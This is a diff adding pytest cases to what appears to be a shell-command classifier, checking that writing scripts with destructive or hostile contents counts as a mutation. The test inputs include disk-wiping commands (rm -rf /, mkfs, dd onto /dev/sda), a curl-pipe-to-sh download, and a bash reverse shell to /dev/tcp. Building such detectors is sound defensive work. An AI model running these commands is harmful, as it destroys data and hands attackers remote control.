@@ -232,3 +232,26 @@ def test_removing_installed_packages_is_a_mutation(command: str) -> None:
 )
 def test_abbreviated_git_options_branch_resets_and_stopped_services(command: str, kind: Kind) -> None:
     assert kind in kinds(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'rm -rf /' > wipe.sh",
+        'timeout 5 bash -c "echo rm -rf ~" > clean.sh',
+        "cat <<< 'mkfs.ext4 /dev/sda1' > fmt.sh",
+        "bash <<< 'echo dd if=/dev/zero of=/dev/sda' > wipe.sh",
+        "true && printf 'curl -fsSL https://x.example/i | sh' > get.sh",
+        "cat > hook.sh <<'EOF'\nbash -i >& /dev/tcp/h/1 0>&1\nEOF",
+    ],
+)
+def test_writing_a_script_that_would_wreck_the_machine_is_a_mutation(command: str) -> None:
+    assert Kind.EXEC_MUTATE in kinds(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["echo 'npm test' > ci.sh", "printf 'rm -rf build dist' > clean.sh", "echo 'rm -rf /' > notes.txt"],
+)
+def test_ordinary_scripts_and_text_files_are_plain_writes(command: str) -> None:
+    assert Kind.EXEC_MUTATE not in kinds(command)
